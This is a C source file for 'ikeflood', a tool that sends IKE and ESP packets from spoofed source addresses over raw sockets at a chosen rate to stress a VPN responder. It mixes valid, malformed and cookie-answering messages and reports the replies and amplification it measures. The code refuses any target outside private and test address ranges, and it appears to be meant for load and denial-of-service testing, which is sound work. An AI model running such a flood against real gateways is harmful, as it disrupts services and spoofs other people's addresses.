/* SPDX-License-Identifier: Apache-2.0 */
/*
 * ikeflood - unauthenticated IKE and ESP from spoofed sources, for private networks only.
 *
 *   ikeflood -d DSTIP[:PORT] [-S SRCPREFIX/LEN] [-r PPS] [-t SECONDS] [-n PACKETS] [-m KIND,...]
 *            [-s SEED] [-C PCT] [-k]
 *
 * Kinds (-m, in turn):
 *   init    a good IKE_SA_INIT (ChaCha20-Poly1305, SHA-256, X25519) with fresh SPIi, nonce and KE
 *   badke   its KE is an all-zero X25519 value       badgrp   KE of an unknown group
 *   noprop  a proposal that nobody accepts           badver   major version 3
 *   short   0 to 27 octets                           garbage  random octets
 *   auth    IKE_AUTH for unknown SPIs                info     INFORMATIONAL for unknown SPIs
 *   esp     ESP in UDP to port 4500, random          keepalive  one octet 0xff to port 4500
 *   cookie  IKE_SA_INIT with a made-up COOKIE
 *
 * Source address and port are spoofed per packet within SRCPREFIX through a raw socket. -C PCT
 * answers that share of the COOKIE requests by the same message with the cookie, like a botnet
 * that owns its addresses: route the prefix to this namespace (ip route add local PREFIX dev lo).
 * -k counts the answers. Refuses a destination outside 127/8, 10/8, 172.16/12, 192.168/16,
 * 198.18/15, 192.0.2/24. Prints one line of JSON.
 */
#define _GNU_SOURCE
#include "ikewire.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/socket.h>
#include <unistd.h>

enum { BATCH = 32, HEADERS = 28, PACKET_MAX = 2048, GRACE_MS = 300, RECEIVE_MAX = 256 };

static const char *const kinds[] = {"init", "badke", "badgrp", "noprop", "badver", "short",
	"garbage", "auth", "info", "esp", "keepalive", "cookie"};
enum kind {
	K_INIT,
	K_BADKE,
	K_BADGRP,
	K_NOPROP,
	K_BADVER,
	K_SHORT,
	K_GARBAGE,
	K_AUTH,
	K_INFO,
	K_ESP,
	K_KEEPALIVE,
	K_COOKIE,
	N_KINDS
};

struct flood {
	uint64_t seed, packets_max;
	double rate, seconds;
	uint32_t dst; /* as on the wire */
	uint16_t port;
	uint32_t src, src_mask;
	enum kind kinds[N_KINDS];
	uint64_t n_kinds;
	int cookie_percent;
	bool count;
	int out, in; /* raw sockets; in: -1 where nothing is counted */
	uint64_t sent, octets_out, answers, octets_in, errors;
	uint64_t cookies, inits, notifies, others, echoed;
};

static volatile sig_atomic_t stop;
static void on_signal(int number)
{
	(void)number;
	stop = 1;
}

/* SPIi is an invertible function of the packet's number, so that an answer names its request. */
static uint64_t spi_of(const struct flood *f, uint64_t i)
{
	return (i + 1) * 0x9e3779b97f4a7c15ull ^ mix64(f->seed);
}
static uint64_t number_of(const struct flood *f, const uint8_t *spi)
{
	uint64_t v = (uint64_t)g32(spi) << 32 | g32(spi + 4);
	return (v ^ mix64(f->seed)) * 0xf1de83e19937733dull - 1;
}

static void put_bad_sa(struct wb *w)
{
	uint8_t *head = w_open(w, PL_SA), t[64] = {0}, *end = t + 8;
	w_transform(&end, 0, 1, 3, 0);
	w_transform(&end, 0, 2, 1, 0);
	w_transform(&end, 0, 3, 1, 0);
	w_transform(&end, 1, 4, 2, 0);
	p16(t + 2, (unsigned)(end - t));
	t[4] = 1;
	t[5] = 1;
	t[7] = 4;
	w_put(w, t, (int)(end - t));
	w_close(w, head);
}

struct cookie {
	const uint8_t *octets;
	int len;
};

static int put_init(const struct flood *f, uint8_t *out, enum kind kind, uint64_t i,
	const struct cookie *cookie)
{
	uint8_t spi[8], ke[128], nonce[32];
	struct wb w;
	p32(spi, (uint32_t)(spi_of(f, i) >> 32));
	p32(spi + 4, (uint32_t)spi_of(f, i));
	fill(ke, sizeof ke, mix64(f->seed + 7) ^ mix64(i * 4 + 3));
	fill(nonce, sizeof nonce, mix64(f->seed + 9) ^ mix64(i * 4));
	w_begin(&w, out, spi, NULL, X_INIT, 0x08, 0);
	if (kind == K_BADVER)
		out[17] = 0x30;
	if (cookie)
		w_notify(&w, N_COOKIE, cookie->octets, cookie->len);
	else if (kind == K_COOKIE)
		w_notify(&w, N_COOKIE, nonce, 20);
	if (kind == K_NOPROP)
		put_bad_sa(&w);
	else
		w_sa_ike(&w);
	if (kind == K_BADKE)
		memset(ke, 0, 32);
	if (kind == K_BADGRP || kind == K_NOPROP)
		w_ke(&w, kind == K_BADGRP ? 1025 : 2, ke, 128);
	else
		w_ke(&w, 31, ke, 32);
	w_raw(&w, PL_NONCE, nonce, sizeof nonce);
	w_end(&w);
	return w.n;
}

/* What looks like a protected message of an SA that nobody has. */
static int put_unknown(const struct flood *f, uint8_t *out, enum kind kind, uint64_t i)
{
	uint8_t spii[8], spir[8], body[160];
	struct wb w;
	p32(spii, (uint32_t)(spi_of(f, i) >> 32));
	p32(spii + 4, (uint32_t)spi_of(f, i));
	fill(spir, sizeof spir, mix64(f->seed) ^ mix64(i * 4 + 2));
	fill(body, sizeof body, i);
	w_begin(&w, out, spii, spir, kind == K_AUTH ? X_AUTH : X_INFO, 0x08, 1);
	w_raw(&w, PL_SK, body, sizeof body);
	out[28] = PL_IDi;
	w_end(&w);
	return w.n;
}

static int put_payload(const struct flood *f, uint8_t *out, enum kind kind, uint64_t i)
{
	int n = 1;
	switch (kind) {
	case K_SHORT:
		n = 27 - (int)(i % 28);
		fill(out, n, i);
		return n;
	case K_GARBAGE:
		n += (int)(mix64(i) % 1400);
		fill(out, n, f->seed ^ i);
		if (f->port == 4500 && n >= 4 && (i & 1))
			memset(out, 0, 4);
		return n;
	case K_ESP:
		n = 32 + (int)(mix64(i) % 1200);
		fill(out, n, f->seed ^ i);
		out[0] |= 1;
		return n;
	case K_KEEPALIVE:
		out[0] = 0xff;
		return n;
	case K_AUTH:
	case K_INFO:
		return put_unknown(f, out, kind, i);
	default:
		return put_init(f, out, kind, i, NULL);
	}
}

/* The payload stands behind the place of the headers. Returns the length of the whole packet. */
static size_t put_headers(uint8_t *packet, const struct flood *f, const uint32_t source[2],
	uint16_t port, int payload)
{
	struct iphdr ip = {
		.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.tot_len = htons((uint16_t)(HEADERS + payload)),
		.saddr = htonl(source[0]),
		.daddr = f->dst,
	};
	struct udphdr udp = {
		.source = htons((uint16_t)source[1]),
		.dest = htons(port),
		.len = htons((uint16_t)(8 + payload)),
	};
	memcpy(packet, &ip, sizeof ip);
	memcpy(packet + sizeof ip, &udp, sizeof udp);
	return (size_t)(HEADERS + payload);
}

/* Packet number i of the flood; returns its length and adds to octets_out. */
static size_t put_packet(struct flood *f, uint8_t *packet, uint64_t i)
{
	enum kind kind = f->kinds[i % f->n_kinds];
	uint64_t h = mix64(f->seed * 31 + i);
	uint32_t host = (uint32_t)h & ~f->src_mask;
	uint32_t source[2] = {f->src | (host || f->src_mask == UINT32_MAX ? host : 1),
		1024 + (uint32_t)(h >> 32) % 64000};
	uint16_t port = kind == K_ESP || kind == K_KEEPALIVE ? 4500 : f->port;
	bool marker = port == 4500 && kind != K_ESP && kind != K_KEEPALIVE && kind != K_GARBAGE;
	int skip = marker ? 4 : 0;
	memset(packet + HEADERS, 0, 4);
	int payload = put_payload(f, packet + HEADERS + skip, kind, i) + skip;
	f->octets_out += (uint64_t)payload;
	return put_headers(packet, f, source, port, payload);
}

static void send_batch(struct flood *f, uint64_t due)
{
	static uint8_t packets[BATCH][PACKET_MAX];
	struct mmsghdr messages[BATCH];
	struct iovec vectors[BATCH];
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = f->dst};
	unsigned n = 0;
	for (; n < BATCH && f->sent < due; n++, f->sent++) {
		vectors[n] = (struct iovec){packets[n], put_packet(f, packets[n], f->sent)};
		messages[n].msg_hdr = (struct msghdr){
			.msg_iov = &vectors[n],
			.msg_iovlen = 1,
			.msg_name = &to,
			.msg_namelen = sizeof to,
		};
	}
	for (unsigned done = 0; done < n;) {
		int r = sendmmsg(f->out, messages + done, n - done, 0);
		if (r < 0 && errno == EINTR)
			continue;
		f->errors += r < 0;
		done += r < 0 ? 1 : (unsigned)r;
	}
	if (n == 0)
		usleep(200);
}

/* The very same message once more, with the cookie in front. */
static void echo_cookie(struct flood *f, const uint8_t *packet, const uint8_t *message, int len)
{
	uint8_t again[PACKET_MAX];
	struct iphdr ip;
	int cookie_len = (int)g16(message + 30) - 8;
	uint64_t i = number_of(f, message);
	if (cookie_len < 1 || cookie_len > 64 || 36 + cookie_len > len || i >= f->sent)
		return;
	if ((int)(mix64(g32(message) ^ f->seed) % 100) >= f->cookie_percent)
		return;
	memcpy(&ip, packet, sizeof ip);
	const struct cookie cookie = {message + 36, cookie_len};
	const uint32_t source[2] = {ntohl(ip.daddr), g16(packet + ip.ihl * 4 + 2)};
	int skip = f->port == 4500 ? 4 : 0;
	memset(again + HEADERS, 0, 4);
	int payload = put_init(f, again + HEADERS + skip, K_INIT, i, &cookie) + skip;
	size_t n = put_headers(again, f, source, f->port, payload);
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = f->dst};
	if (sendto(f->out, again, n, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)n)
		f->echoed++;
	f->octets_out += (uint64_t)payload;
}

static void count_answer(struct flood *f, const uint8_t *packet, int n)
{
	struct iphdr ip;
	memcpy(&ip, packet, sizeof ip);
	int len = n - ip.ihl * 4 - 8;
	const uint8_t *message = packet + ip.ihl * 4 + 8;
	if (ip.saddr != f->dst || len < 1)
		return;
	unsigned from = g16(packet + ip.ihl * 4);
	if (from != f->port && from != 500 && from != 4500)
		return;
	f->answers++;
	f->octets_in += (uint64_t)len;
	if (from == 4500 && len > 4 && g32(message) == 0) {
		message += 4;
		len -= 4;
	}
	if (len < 36 || !(message[19] & 0x20)) {
		f->others++;
	} else if (message[16] == PL_N && g16(message + 34) == N_COOKIE) {
		f->cookies++;
		if (f->cookie_percent)
			echo_cookie(f, packet, message, len);
	} else if (message[16] == PL_N) {
		f->notifies++;
	} else if (message[18] == X_INIT) {
		f->inits++;
	} else {
		f->others++;
	}
}

static void receive(struct flood *f)
{
	uint8_t packet[4096];
	for (int i = 0; i < RECEIVE_MAX && f->in >= 0; i++) {
		ssize_t n = recv(f->in, packet, sizeof packet, 0);
		if (n < HEADERS)
			return;
		count_answer(f, packet, (int)n);
	}
}

static bool is_private(uint32_t ip)
{
	return ip >> 24 == 127 || ip >> 24 == 10 || ip >> 20 == 0xac1 || ip >> 16 == 0xc0a8 ||
	       ip >> 17 == 0xc612 >> 1 || ip >> 8 == 0xc00002;
}

static bool parse_kinds(struct flood *f, char *list)
{
	for (char *word = strtok(list, ","); word; word = strtok(NULL, ",")) {
		int k = 0;
		while (k < N_KINDS && strcmp(kinds[k], word) != 0)
			k++;
		if (k == N_KINDS || f->n_kinds == N_KINDS)
			return false;
		f->kinds[f->n_kinds++] = (enum kind)k;
	}
	return f->n_kinds > 0;
}

static bool parse_target(struct flood *f, char *text)
{
	char *port = strchr(text, ':');
	if (port) {
		*port = '\0';
		f->port = (uint16_t)atoi(port + 1);
	}
	return inet_pton(AF_INET, text, &f->dst) == 1 && is_private(ntohl(f->dst));
}

static bool parse_sources(struct flood *f, char *text)
{
	struct in_addr address;
	char *slash = strchr(text, '/');
	int bits = slash ? atoi(slash + 1) : 32;
	if (slash)
		*slash = '\0';
	if (inet_pton(AF_INET, text, &address) != 1 || bits < 1 || bits > 32)
		return false;
	f->src_mask = UINT32_MAX << (32 - bits);
	f->src = ntohl(address.s_addr) & f->src_mask;
	return true;
}

static bool parse(struct flood *f, int argc, char **argv)
{
	bool good = true;
	int c;
	while (good && (c = getopt(argc, argv, "d:S:r:t:n:m:s:C:k")) != -1) {
		switch (c) {
		case 'd':
			good = parse_target(f, optarg);
			break;
		case 'S':
			good = parse_sources(f, optarg);
			break;
		case 'm':
			good = parse_kinds(f, optarg);
			break;
		case 'r':
			f->rate = atof(optarg);
			break;
		case 't':
			f->seconds = atof(optarg);
			break;
		case 'n':
			f->packets_max = strtoull(optarg, NULL, 0);
			break;
		case 's':
			f->seed = strtoull(optarg, NULL, 0);
			break;
		case 'C':
			f->cookie_percent = atoi(optarg);
			break;
		case 'k':
			f->count = true;
			break;
		default:
			good = false;
		}
		if (!good)
			fprintf(stderr, "ikeflood: bad -%c\n", c);
	}
	return good && f->dst && f->src;
}

static bool open_sockets(struct flood *f)
{
	const int buffer = 8 << 20;
	f->out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	f->in = -1;
	if (f->out < 0)
		return false;
	setsockopt(f->out, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof buffer);
	if (!f->count && !f->cookie_percent)
		return true;
	f->in = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK, IPPROTO_UDP);
	setsockopt(f->in, SOL_SOCKET, SO_RCVBUFFORCE, &buffer, sizeof buffer);
	return f->in >= 0;
}

static double run(struct flood *f)
{
	uint64_t begin = mono_ns();
	double elapsed = 0;
	while (!stop && elapsed < f->seconds && f->sent < f->packets_max) {
		uint64_t due = (uint64_t)(elapsed * f->rate);
		send_batch(f, due < f->packets_max ? due : f->packets_max);
		receive(f);
		elapsed = (double)(mono_ns() - begin) / 1e9;
	}
	for (uint64_t end = mono_ns() + GRACE_MS * 1000000ull; f->in >= 0 && mono_ns() < end;) {
		receive(f);
		usleep(1000);
	}
	return elapsed;
}

static void print(const char *name, uint64_t value)
{
	printf(",\"%s\":%llu", name, (unsigned long long)value);
}

int main(int argc, char **argv)
{
	struct flood f = {
		.seed = 1,
		.rate = 1000,
		.seconds = 5,
		.packets_max = UINT64_MAX,
		.port = 500,
		.src_mask = UINT32_MAX,
	};
	if (!parse(&f, argc, argv)) {
		fprintf(stderr,
			"usage: ikeflood -d PRIVATE[:PORT] -S PREFIX/LEN [-r PPS] [-t SECONDS] "
			"[-n PACKETS] [-m KIND,...] [-s SEED] [-C PCT] [-k]\n");
		return 2;
	}
	if (f.n_kinds == 0)
		f.kinds[f.n_kinds++] = K_INIT;
	if (!open_sockets(&f)) {
		perror("ikeflood: raw socket");
		return 1;
	}
	signal(SIGINT, on_signal);
	signal(SIGTERM, on_signal);
	double seconds = run(&f);
	printf("{\"secs\":%.3f,\"pps\":%.0f,\"amplification\":%.3f", seconds,
		(double)f.sent / seconds,
		f.octets_out ? (double)f.octets_in / (double)f.octets_out : 0);
	print("sent", f.sent);
	print("bytes_out", f.octets_out);
	print("answers", f.answers);
	print("bytes_in", f.octets_in);
	print("cookie", f.cookies);
	print("sa_init_resp", f.inits);
	print("notify", f.notifies);
	print("other", f.others);
	print("cookies_echoed", f.echoed);
	print("send_err", f.errors);
	printf("}\n");
	return 0;
}
